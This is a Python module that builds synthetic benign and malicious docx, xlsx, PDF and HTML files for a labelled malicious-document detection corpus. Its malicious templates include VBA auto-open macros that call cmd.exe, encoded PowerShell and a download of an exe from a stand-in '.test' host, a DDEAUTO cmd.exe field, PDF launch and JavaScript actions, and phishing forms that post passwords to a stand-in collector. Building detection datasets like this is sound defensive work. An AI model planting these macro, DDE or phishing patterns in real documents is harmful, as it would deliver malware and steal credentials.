"""Corpus generators for the four document formats."""

from __future__ import annotations

import csv
import io
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from .ovbawrite import build_vba_project

FORMATS = ("docx", "xlsx", "pdf", "html")

# neutral vocabulary: no word contains an HTML suspicious keyword
WORDS = (
    "alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel",
    "india", "juliet", "kilo", "lima", "mike", "november", "oscar", "papa",
    "quebec", "romeo", "sierra", "tango", "uniform", "victor", "whiskey",
    "xray", "yankee", "zulu", "meadow", "harbor", "lantern", "orchard",
    "timber", "granite", "vessel", "prairie", "summit", "canyon",
)

MACRO_TEMPLATES = (
    'Sub AutoOpen()\n    Dim s As String\n    s = "{word0}" & Chr(72) & Chr(105)\n'
    '    Shell "cmd.exe /c echo " & s\nEnd Sub\n',
    'Sub Document_Open()\n    Set o = CreateObject("WScript.Shell")\n'
    '    o.Run "powershell -enc {word0}"\nEnd Sub\n',
    'Sub Workbook_Open()\n    u = "h" & "t" & "t" & "p"\n'
    '    Call URLDownloadToFile(0, u & "://{word0}.test/p", Environ("TEMP") & "\\a.exe", 0, 0)\n'
    'End Sub\n',
)

OBFUSCATED_MACRO = (
    "Sub Workbook_Open()\n"
    "    Dim p As String\n"
    "    p = {chain}\n"
    "    x = 1 + 2 * 3 - 4 / 2 + 5 Mod 3\n"
    "    Execute p\n"
    "End Sub\n"
)


@dataclass(frozen=True)
class SynthConfig:
    format: str
    count: int  # files per class
    seed: int = 7
    macros: bool = True
    dde: bool = True
    ole: bool = True
    js_actions: bool = True
    hidden_iframes: bool = True
    remote_templates: bool = True

    def __post_init__(self):
        if self.format not in FORMATS:
            raise ValueError(f"format must be one of {FORMATS}")
        if self.count < 1:
            raise ValueError("count must be >= 1")


def synthesize(config: SynthConfig) -> list[tuple[str, bytes, int]]:
    """(filename, bytes, label) triples: `count` benign then `count` malicious."""
    rng = np.random.default_rng([config.seed, FORMATS.index(config.format)])
    maker = _MAKERS[config.format]
    out = []
    for i in range(config.count):
        out.append((f"benign_{i:05d}.{config.format}", maker(rng, config, malicious=False), 0))
    for i in range(config.count):
        out.append((f"malicious_{i:05d}.{config.format}", maker(rng, config, malicious=True), 1))
    return out


def write_corpus(config: SynthConfig, out_dir: str | Path) -> Path:
    """Write the corpus plus labels.csv; returns the labels path."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    labels_path = out_dir / "labels.csv"
    rows = []
    for name, data, label in synthesize(config):
        (out_dir / name).write_bytes(data)
        rows.append((name, label))
    with open(labels_path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["path", "label"])
        writer.writerows(rows)
    return labels_path


def _words(rng, low: int, high: int) -> list[str]:
    n = int(rng.integers(low, high + 1))
    return [WORDS[int(k)] for k in rng.integers(0, len(WORDS), n)]


def _zip_bytes(entries: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zf:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


# --- docx ----------------------------------------------------------------

_DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)

_DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def make_docx(rng: np.random.Generator, config: SynthConfig, malicious: bool) -> bytes:
    paragraphs = []
    for _ in range(int(rng.integers(2, 9))):
        text = " ".join(_words(rng, 4, 14))
        paragraphs.append(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
    body_extra = ""
    doc_rels = []
    entries: dict[str, bytes | str] = {}

    indicators = []
    if malicious:
        # the first enabled indicator goes into every malicious file; the
        # others vary so the signals are not fully redundant
        enabled = [n for n, on in (("macros", config.macros), ("dde", config.dde),
                                   ("ole", config.ole)) if on]
        if not enabled:
            raise ValueError("malicious docx generation needs at least one indicator toggle")
        indicators = [enabled[0]] + [n for n in enabled[1:] if rng.random() < 0.5]

    if "macros" in indicators:
        template = MACRO_TEMPLATES[int(rng.integers(len(MACRO_TEMPLATES)))]
        source = template.format(word0=_words(rng, 1, 1)[0])
        entries["word/vbaProject.bin"] = build_vba_project([("Module1", source)])
    if "dde" in indicators:
        body_extra += (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            '"/k calc.exe"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    if "ole" in indicators:
        n_objects = int(rng.integers(1, 4))
        for k in range(n_objects):
            rel_id = f"rId{100 + k}"
            entries[f"word/embeddings/oleObject{k + 1}.bin"] = bytes(
                rng.integers(0, 256, int(rng.integers(64, 512)), dtype=np.uint8)
            )
            doc_rels.append(
                f'<Relationship Id="{rel_id}" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
                f'Target="embeddings/oleObject{k + 1}.bin"/>'
            )
            body_extra += (
                f'<w:p><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="{rel_id}"/>'
                "</w:object></w:p>"
            )

    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<w:body>{''.join(paragraphs)}{body_extra}<w:sectPr/></w:body></w:document>"
    )
    entries["[Content_Types].xml"] = _DOCX_CONTENT_TYPES
    entries["_rels/.rels"] = _DOCX_RELS
    entries["word/document.xml"] = document
    if doc_rels:
        entries["word/_rels/document.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(doc_rels) + "</Relationships>"
        )
    return _zip_bytes(entries)


# --- xlsx ----------------------------------------------------------------


def make_xlsx(rng: np.random.Generator, config: SynthConfig, malicious: bool) -> bytes:
    n_rows = int(rng.integers(4, 20))
    n_cols = int(rng.integers(2, 6))
    shared: list[str] = []
    rows_xml = []
    for r in range(1, n_rows + 1):
        cells = []
        for c in range(n_cols):
            col = chr(ord("A") + c)
            if rng.random() < 0.6:
                cells.append(f'<c r="{col}{r}"><v>{int(rng.integers(0, 10000))}</v></c>')
            else:
                shared.append(" ".join(_words(rng, 1, 3)))
                cells.append(f'<c r="{col}{r}" t="s"><v>{len(shared) - 1}</v></c>')
        rows_xml.append(f'<row r="{r}">{"".join(cells)}</row>')

    workbook_rels = [
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/>'
    ]
    entries: dict[str, bytes | str] = {}
    defined_names = ""

    indicators = []
    if malicious:
        enabled = [n for n, on in (("macros", config.macros),
                                   ("remote_template", config.remote_templates)) if on]
        if not enabled:
            raise ValueError("malicious xlsx generation needs at least one indicator toggle")
        indicators = [enabled[0]] + [n for n in enabled[1:] if rng.random() < 0.5]

    if "macros" in indicators:
        chain = " & ".join(f"Chr({int(rng.integers(65, 122))})" for _ in range(int(rng.integers(24, 64))))
        source = OBFUSCATED_MACRO.format(chain=chain)
        entries["xl/vbaProject.bin"] = build_vba_project([("ThisWorkbook", source)])
        defined_names = '<definedNames><definedName name="Auto_Open">Sheet1!$A$1</definedName></definedNames>'
    if "remote_template" in indicators:
        host = _words(rng, 1, 1)[0]
        workbook_rels.append(
            '<Relationship Id="rId9" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            f'Target="http://{host}.test/t.dotm" TargetMode="External"/>'
        )

    entries["[Content_Types].xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        "</Types>"
    )
    entries["_rels/.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    )
    entries["xl/workbook.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{defined_names}</workbook>'
    )
    entries["xl/_rels/workbook.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(workbook_rels) + "</Relationships>"
    )
    entries["xl/worksheets/sheet1.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData>{"".join(rows_xml)}</sheetData></worksheet>'
    )
    entries["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{len(shared)}" '
        f'uniqueCount="{len(shared)}">'
        + "".join(f"<si><t>{s}</t></si>" for s in shared) + "</sst>"
    )
    return _zip_bytes(entries)


# --- pdf -----------------------------------------------------------------


def make_pdf(rng: np.random.Generator, config: SynthConfig, malicious: bool) -> bytes:
    objects: list[bytes] = []

    def add(body: str | bytes) -> int:
        objects.append(body.encode("latin-1") if isinstance(body, str) else body)
        return len(objects)

    text = " ".join(_words(rng, 8, 30))
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    if rng.random() < 0.5:
        compressed = zlib.compress(content, 6)
        stream_obj = (
            f"<< /Length {len(compressed)} /Filter /FlateDecode >>\nstream\n".encode("latin-1")
            + compressed + b"\nendstream"
        )
    else:
        stream_obj = (
            f"<< /Length {len(content)} >>\nstream\n".encode("latin-1") + content + b"\nendstream"
        )

    catalog_extra = ""
    extra_kids: list[str] = []
    indicators = []
    if malicious and config.js_actions:
        # the OpenAction/JavaScript vector is always present; the rest vary
        indicators = ["openaction_js"]
        indicators += [c for c in ("launch", "uri_port", "embedded_file") if rng.random() < 0.5]

    font = add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    stream_id = add(stream_obj)
    page = add(f"<< /Type /Page /Parent 0 0 R /Contents {stream_id} 0 R "
               f"/Resources << /Font << /F1 {font} 0 R >> >> >>")
    pages = add(f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")

    if "openaction_js" in indicators:
        js = add("<< /S /JavaScript /JS (app.alert(String.fromCharCode(72,105))) >>")
        catalog_extra += f" /OpenAction {js} 0 R"
    if "launch" in indicators:
        launch = add("<< /S /Launch /F (cmd.exe) >>")
        catalog_extra += f" /AA << /O {launch} 0 R >>"
    if "uri_port" in indicators:
        port = int(rng.choice([8080, 8443, 4443, 1337]))
        host = _words(rng, 1, 1)[0]
        uri = add(f"<< /S /URI /URI (http://{host}.test:{port}/p) >>")
        extra_kids.append(f"/Annots [{uri} 0 R]")
    if "embedded_file" in indicators:
        payload = bytes(rng.integers(0, 256, int(rng.integers(32, 256)), dtype=np.uint8))
        add(b"<< /Type /EmbeddedFile /Length " + str(len(payload)).encode()
            + b" >>\nstream\n" + payload + b"\nendstream")

    catalog = add(f"<< /Type /Catalog /Pages {pages} 0 R{catalog_extra} >>")

    # fix the page's parent reference now that the pages object id is known
    objects[page - 1] = objects[page - 1].replace(b"/Parent 0 0 R", f"/Parent {pages} 0 R".encode())

    buf = io.BytesIO()
    buf.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = [0]
    for i, body in enumerate(objects, start=1):
        offsets.append(buf.tell())
        buf.write(f"{i} 0 obj\n".encode("latin-1"))
        buf.write(body)
        buf.write(b"\nendobj\n")
    xref_at = buf.tell()
    buf.write(f"xref\n0 {len(objects) + 1}\n".encode("latin-1"))
    buf.write(b"0000000000 65535 f \n")
    for off in offsets[1:]:
        buf.write(f"{off:010d} 00000 n \n".encode("latin-1"))
    buf.write(f"trailer\n<< /Size {len(objects) + 1} /Root {catalog} 0 R >>\n".encode("latin-1"))
    buf.write(f"startxref\n{xref_at}\n%%EOF\n".encode("latin-1"))
    return buf.getvalue()


# --- html ----------------------------------------------------------------


def make_html(rng: np.random.Generator, config: SynthConfig, malicious: bool) -> bytes:
    host = f"{_words(rng, 1, 1)[0]}.example"
    paragraphs = [
        f"<p>{' '.join(_words(rng, 6, 18))}</p>" for _ in range(int(rng.integers(2, 8)))
    ]
    links = [
        f'<a href="/{w}/page{int(rng.integers(100))}">{w}</a>' for w in _words(rng, 1, 4)
    ]
    body_extra = ""
    head_extra = ""

    if malicious:
        lure = " ".join(
            ["please", "verify", "your", "account", "password", "and", "login", "to", "the", "secure", "portal"]
        )
        body_extra += f"<p>{lure}</p>"
        body_extra += (
            '<form action="http://collect{n}.test/submit" method="post">'
            '<input type="text" name="user"/><input type="password" name="pass"/>'
            "</form>"
        ).format(n=int(rng.integers(100)))
        if config.hidden_iframes:
            body_extra += f'<iframe src="http://drop{int(rng.integers(100))}.test/x" width="0" height="0"></iframe>'
        payload_num = int(rng.integers(10 ** 6, 10 ** 9))
        body_extra += (
            "<script>var u=atob('aHR0cDovL2'+'V4ZmlsLnRlc3Q=');"
            f"eval(u);window.location='http://track{payload_num}.test/r?q={payload_num}';</script>"
        )
        links.append(f'<a href="http://bit.ly/{int(rng.integers(10**6))}">here</a>')
        if rng.random() < 0.5:
            head_extra += '<meta http-equiv="refresh" content="0; url=http://next.test/">'
    else:
        body_extra += f"<script>var page = {{id: {int(rng.integers(1000))}}};</script>"

    title = " ".join(_words(rng, 2, 4))
    html = (
        "<!DOCTYPE html>\n"
        f'<html><head><meta charset="utf-8"><title>{title}</title>{head_extra}</head>\n'
        f"<body>\n<h1>{title}</h1>\n" + "\n".join(paragraphs) + "\n"
        + " ".join(links) + "\n"
        f'<img src="/static/logo{int(rng.integers(10))}.png" alt="logo">\n'
        + body_extra + "\n</body></html>\n"
    )
    return html.encode("utf-8")


_MAKERS = {
    "docx": make_docx,
    "xlsx": make_xlsx,
    "pdf": make_pdf,
    "html": make_html,
}
